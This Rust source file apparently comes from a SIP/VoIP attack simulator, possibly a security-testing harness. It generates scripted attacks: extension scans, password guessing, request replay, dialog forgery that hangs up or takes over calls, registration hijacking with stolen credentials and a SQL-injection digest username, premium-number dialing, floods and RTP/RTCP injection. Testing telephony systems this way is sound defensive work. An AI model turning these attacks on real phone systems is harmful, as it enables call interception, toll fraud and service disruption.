//! An attack, one message after another.

use std::net::SocketAddr;

use pure::Chance;
use rtp::PacketBuf;
use rtp::packet::Header;
use sip::{Message, Method};

use super::attack::{AGENTS, Draft, offer};
use super::malformed::{CASES, HIDINGS};
use super::target::Ours;
use super::{Attack, AttackerSettings, Gain, Key, Kind, MediaAttack, Overheard};

/// Where an attack stands.
#[derive(Debug)]
pub(super) struct Script {
    attack: Attack,
    step: usize,
}

#[derive(Debug)]
pub(super) enum Shot {
    /// Bytes, and what may be answered to them.
    Message {
        bytes: Vec<u8>,
        probes: Vec<(Key, String, Kind)>,
    },
    /// The beginning of a message.
    Half {
        bytes: Vec<u8>,
    },
    Media {
        to: Ours,
        packet: Vec<u8>,
    },
}

impl Script {
    pub(super) fn new(attack: Attack) -> Self {
        Self { attack, step: 0 }
    }

    pub(super) fn name(&self) -> &'static str {
        self.attack.name()
    }

    pub(super) fn is_over(&self) -> bool {
        self.step >= self.len()
    }

    /// Whether it needs no connection.
    pub(super) fn is_media(&self) -> bool {
        matches!(self.attack, Attack::Media { .. })
    }

    fn len(&self) -> usize {
        match &self.attack {
            Attack::Scan { extensions } => extensions.len() * SCAN_SHAPES,
            Attack::Enumerate { extensions, .. } => extensions.len(),
            Attack::Guess { secrets, .. } => secrets.len(),
            Attack::Replay { times, .. } => *times as usize,
            Attack::Forge { .. } => FORGERIES.len() * 2 * 2,
            Attack::Malformed => CASES.len(),
            Attack::Smuggle => HIDINGS.len(),
            Attack::Hijack { .. } => HIJACKS,
            Attack::Dial { numbers, .. } => numbers.len(),
            Attack::Media { packets, .. } => *packets as usize,
            Attack::Flood { messages, .. } => *messages as usize,
            Attack::Half { connections } => *connections as usize,
        }
    }

    /// The next message, or `None` at the end or without the connection that it needs.
    pub(super) fn next(
        &mut self,
        settings: &AttackerSettings,
        domain: &str,
        local: Option<SocketAddr>,
        chance: &mut Chance,
    ) -> Option<Shot> {
        if self.is_over() {
            return None;
        }
        let step = self.step;
        if let Attack::Media { to, with, .. } = &self.attack {
            self.step += 1;
            return Some(Shot::Media { to: *to, packet: packet(with, step, chance) });
        }
        let mut pen = Pen { settings, domain, local: local?, chance };
        self.step += 1;
        Some(match &self.attack {
            Attack::Scan { extensions } => {
                pen.scan(&extensions[step / SCAN_SHAPES], step % SCAN_SHAPES)
            }
            Attack::Enumerate { method, extensions } => {
                let extension = &extensions[step];
                let draft = pen.draft(method.as_str(), extension, extension);
                pen.ask(draft, extension.clone(), pen_kind(*method))
            }
            Attack::Guess { extension, secrets } => {
                let secret = secrets[step].clone();
                let kind = Kind::Guess { extension: extension.clone(), secret };
                pen.register(extension, "", (format!("{extension}, guess {}", step + 1), kind))
            }
            Attack::Replay { request, .. } => replay(request),
            Attack::Forge { dialog } => pen.forge(dialog, step),
            Attack::Malformed => {
                let case = CASES[step];
                let draft = pen.draft("INVITE", "100", "101");
                let (key, text) = pen.text(draft);
                let kind = Kind::Success(Gain::Called);
                let probes = vec![(key, case.name.to_owned(), kind)];
                Shot::Message { bytes: (case.spoil)(&text), probes }
            }
            Attack::Smuggle => {
                let hiding = HIDINGS[step];
                let (outer, inner) =
                    (pen.draft("OPTIONS", "100", "100"), pen.call("100", "900123456"));
                let ((seen, outer), (hidden, inner)) = (pen.text(outer), pen.text(inner));
                let name = hiding.name.to_owned();
                let probes =
                    vec![(seen, name.clone(), Kind::Harmless), (hidden, name, Kind::Hidden)];
                Shot::Message { bytes: (hiding.hide)(&outer, &inner), probes }
            }
            Attack::Hijack { extension, captured } => {
                pen.hijack(extension, captured.as_deref(), step)
            }
            Attack::Dial { extension, numbers } => {
                let draft = pen.call(extension, &numbers[step]);
                pen.ask(draft, format!("number {}", step + 1), Kind::Success(Gain::Called))
            }
            Attack::Flood { method, .. } => {
                let caller = format!("{}", pen.chance.below(1_000_000));
                let draft = pen.draft(method.as_str(), &caller, "100");
                // A flood doesn't care what is answered.
                let (_, text) = pen.text(draft);
                Shot::Message { bytes: text.into(), probes: Vec::new() }
            }
            Attack::Half { .. } => {
                let draft = pen.call("100", "101");
                let (_, text) = pen.text(draft);
                let cut = 1 + pen.chance.below(text.len() as u64 - 2) as usize;
                Shot::Half { bytes: text.as_bytes()[..cut].to_vec() }
            }
            Attack::Media { .. } => unreachable!("shot above, without a connection"),
        })
    }
}

/// Registers an extension with these further header lines.
pub(super) fn register(
    settings: &AttackerSettings,
    domain: &str,
    local: Option<SocketAddr>,
    chance: &mut Chance,
    extension: &str,
    extra: &str,
    about: (String, Kind),
) -> Option<Shot> {
    Some(Pen { settings, domain, local: local?, chance }.register(extension, extra, about))
}

pub(super) fn branch(chance: &mut Chance) -> String {
    format!("z9hG4bK-{:08x}", chance.u64() as u32)
}

/// Writes messages from one connection.
struct Pen<'a> {
    settings: &'a AttackerSettings,
    domain: &'a str,
    local: SocketAddr,
    chance: &'a mut Chance,
}

impl Pen<'_> {
    /// A request from one extension to another.
    fn draft(&mut self, method: &str, from: &str, to: &str) -> Draft {
        let Self { domain, local, .. } = *self;
        let uri = match method {
            "REGISTER" => format!("sip:{domain}"),
            _ => format!("sip:{to}@{domain}"),
        };
        let chosen = AGENTS[self.chance.below(AGENTS.len() as u64) as usize];
        Draft {
            method: method.to_owned(),
            uri,
            from: format!("<sip:{from}@{domain}>;tag={:08x}", self.chance.u64() as u32),
            to: format!("<sip:{to}@{domain}>"),
            call_id: format!("{:016x}", self.chance.u64()),
            cseq: 1,
            branch: branch(self.chance),
            agent: self.settings.agent.clone().unwrap_or_else(|| chosen.to_owned()),
            extra: format!("Contact: <sip:{from}@{local}>\r\n"),
            body: String::new(),
        }
    }

    fn call(&mut self, from: &str, to: &str) -> Draft {
        let mut draft = self.draft("INVITE", from, to);
        draft.body = offer(self.local);
        draft
    }

    fn text(&self, draft: Draft) -> (Key, String) {
        let text = draft.print(self.settings.transport, self.local);
        ((draft.call_id, draft.cseq, draft.method), text)
    }

    fn ask(&self, draft: Draft, about: String, kind: Kind) -> Shot {
        let (key, text) = self.text(draft);
        Shot::Message { bytes: text.into(), probes: vec![(key, about, kind)] }
    }

    fn register(&mut self, extension: &str, extra: &str, about: (String, Kind)) -> Shot {
        let mut draft = self.draft("REGISTER", extension, extension);
        draft.extra.push_str("Expires: 3600\r\n");
        draft.extra.push_str(extra);
        self.ask(draft, about.0, about.1)
    }

    fn scan(&mut self, extension: &str, shape: usize) -> Shot {
        let about = |method: &str| format!("{method} {extension}");
        match shape {
            0 => {
                let draft = self.draft("OPTIONS", "100", extension);
                self.ask(draft, about("OPTIONS"), Kind::Harmless)
            }
            1 => {
                let about = (about("REGISTER"), Kind::Success(Gain::Registered));
                self.register(extension, "", about)
            }
            2 => {
                let draft = self.call("100", extension);
                self.ask(draft, about("INVITE"), Kind::Success(Gain::Called))
            }
            _ => {
                // A method, a caller and a port that nobody would expect.
                let methods =
                    ["SUBSCRIBE", "MESSAGE", "PUBLISH", "NOTIFY", "REFER", "INFO", "SCAN"];
                let method = methods[self.chance.below(methods.len() as u64) as usize];
                let caller = format!("{:x}", self.chance.u64());
                let mut draft = self.draft(method, &caller, extension);
                draft.extra.push_str("Event: presence\r\nRefer-To: <sip:900123456@x.invalid>\r\n");
                draft.cseq = 1 + self.chance.below(1 << 31) as u32 / 2;
                self.ask(draft, about(method), Kind::Success(Gain::Served))
            }
        }
    }

    /// `step` counts forgeries, then sides, then what is known of the tags.
    fn forge(&mut self, dialog: &Overheard, step: usize) -> Shot {
        let (method, name, lines, with_offer) = FORGERIES[step % FORGERIES.len()];
        let as_callee = step / FORGERIES.len() % 2 == 1;
        let knows_tags = step / FORGERIES.len() / 2 == 0;
        let tag = |chance: &mut Chance, real: &str| match knows_tags {
            true => real.to_owned(),
            false => format!("{:08x}", chance.u64() as u32),
        };
        let caller = format!("{};tag={}", dialog.caller, tag(self.chance, &dialog.caller_tag));
        let mut callee = dialog.callee.clone();
        if !dialog.callee_tag.is_empty() {
            callee.push_str(&format!(";tag={}", tag(self.chance, &dialog.callee_tag)));
        }
        let (from, to) = if as_callee { (callee, caller) } else { (caller, callee) };
        let mut draft = self.draft(method, "100", "101");
        (draft.from, draft.to, draft.call_id) = (from, to, dialog.call_id.clone());
        draft.uri = dialog.uri.clone();
        draft.extra.push_str(lines);
        if with_offer {
            draft.body = offer(self.local);
        }
        if method == "CANCEL" {
            (draft.cseq, draft.branch) = (dialog.cseq, dialog.branch.clone());
            draft.to = dialog.callee.clone();
        } else {
            draft.cseq = dialog.cseq.saturating_add(100 + step as u32);
        }
        let side = if as_callee { "callee" } else { "caller" };
        let tags = if knows_tags { "overheard" } else { "guessed" };
        let about = format!("{name} as the {side}, tags {tags}");
        self.ask(draft, about, Kind::Success(Gain::Interfered))
    }

    fn hijack(&mut self, extension: &str, captured: Option<&str>, step: usize) -> Shot {
        let mut draft = self.draft("REGISTER", extension, extension);
        let contact = draft.extra.clone();
        let stolen = captured.map(|value| format!("Authorization: {value}\r\n"));
        let stolen = stolen.unwrap_or_default();
        let about = match step {
            0 => "no credentials",
            1 => {
                draft.extra.push_str(&stolen);
                "captured credentials"
            }
            2 => {
                draft.extra = format!("{contact}{contact}{stolen}Expires: 4294967295\r\n");
                "two contacts for ever"
            }
            3 => {
                draft.extra = format!("Contact: *\r\nExpires: 0\r\n{stolen}");
                "all contacts removed"
            }
            4 => {
                draft.extra = stolen;
                "bindings read"
            }
            5 => {
                let mine = self.draft("REGISTER", "intruder", "intruder");
                draft.from = mine.from;
                draft.extra.push_str(&stolen);
                "in another name"
            }
            6 => {
                // Whoever believes this header takes the request for a trusted proxy's.
                draft.extra.push_str("P-Asserted-Identity: <sip:admin@localhost>\r\n");
                draft.extra.push_str("Path: <sip:intruder@192.0.2.66;lr>\r\n");
                "as a trusted proxy"
            }
            _ => {
                draft.extra.push_str(
                    "Authorization: Digest username=\"' OR '1'='1\", realm=\"\", nonce=\"\", \
                     uri=\"\", response=\"00000000000000000000000000000000\"\r\n",
                );
                "injected credentials"
            }
        };
        self.ask(draft, about.to_owned(), Kind::Success(Gain::Registered))
    }
}

/// What a 2xx to this method is.
fn pen_kind(method: Method) -> Kind {
    match method {
        Method::Options => Kind::Harmless,
        Method::Register => Kind::Success(Gain::Registered),
        Method::Invite => Kind::Success(Gain::Called),
        Method::Ack
        | Method::Bye
        | Method::Cancel
        | Method::Info
        | Method::Update
        | Method::Prack
        | Method::Subscribe
        | Method::Notify
        | Method::Refer
        | Method::Message
        | Method::Publish
        | Method::Other(_) => Kind::Success(Gain::Served),
    }
}

fn replay(request: &bytes::Bytes) -> Shot {
    let parsed = Message::parse(request.clone()).ok();
    let probes = parsed.iter().filter_map(|message| {
        let Message::Request(request) = message else { return None };
        let (headers, method) = (request.headers(), request.method());
        let key = (headers.call_id().to_owned(), headers.cseq().number, method.as_str().to_owned());
        Some((key, format!("a captured {method}"), pen_kind(method)))
    });
    let probes = probes.collect();
    Shot::Message { bytes: request.to_vec(), probes }
}

fn packet(with: &MediaAttack, step: usize, chance: &mut Chance) -> Vec<u8> {
    match with {
        MediaAttack::Rtp { ssrc, sequence } => {
            let header = Header {
                marker: step == 0,
                payload_type: 0,
                sequence: sequence.wrapping_add(step as u16),
                timestamp: (step as u32).wrapping_mul(160),
                ssrc: *ssrc,
                len: Header::LEN,
                padded: false,
            };
            let mut packet = PacketBuf::new();
            let fits = header.build(&[0x2a; 160], &mut packet);
            debug_assert!(fits, "172 bytes fit a datagram");
            packet.as_slice().to_vec()
        }
        MediaAttack::Replay { packets } => {
            let at = step.checked_rem(packets.len());
            at.map(|at| packets[at].clone()).unwrap_or_default()
        }
        MediaAttack::Rtcp { ssrc } => {
            // A receiver report with one block (everything lost), then BYE.
            let mut packet = vec![0x81, 201, 0, 7];
            packet.extend(chance.bytes::<4>());
            packet.extend(ssrc.to_be_bytes());
            packet.extend([0xff; 4]);
            packet.extend([0; 16]);
            packet.extend([0x81, 203, 0, 1]);
            packet.extend(ssrc.to_be_bytes());
            packet
        }
        MediaAttack::Stun => {
            let mut packet = vec![0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42];
            packet.extend(chance.bytes::<12>());
            packet
        }
        MediaAttack::Noise => chance.bytes::<172>().to_vec(),
    }
}

type Forgery = (&'static str, &'static str, &'static str, bool);

/// Method, what it wants, further header lines, and whether it carries an offer.
const FORGERIES: [Forgery; 7] = [
    ("BYE", "hang up", "", false),
    ("CANCEL", "cancel", "", false),
    ("INVITE", "redirect the audio", "", true),
    ("INVITE", "take the call over", "Replaces: x;to-tag=1;from-tag=2\r\n", true),
    ("REFER", "transfer to a premium number", "Refer-To: <sip:900123456@relay.invalid>\r\n", false),
    ("UPDATE", "redirect by UPDATE", "", true),
    ("INFO", "press a key", "Info-Package: infoDtmf\r\n", false),
];

/// Shapes of [`Attack::Scan`].
const SCAN_SHAPES: usize = 4;

/// Ways of [`Attack::Hijack`].
const HIJACKS: usize = 8;
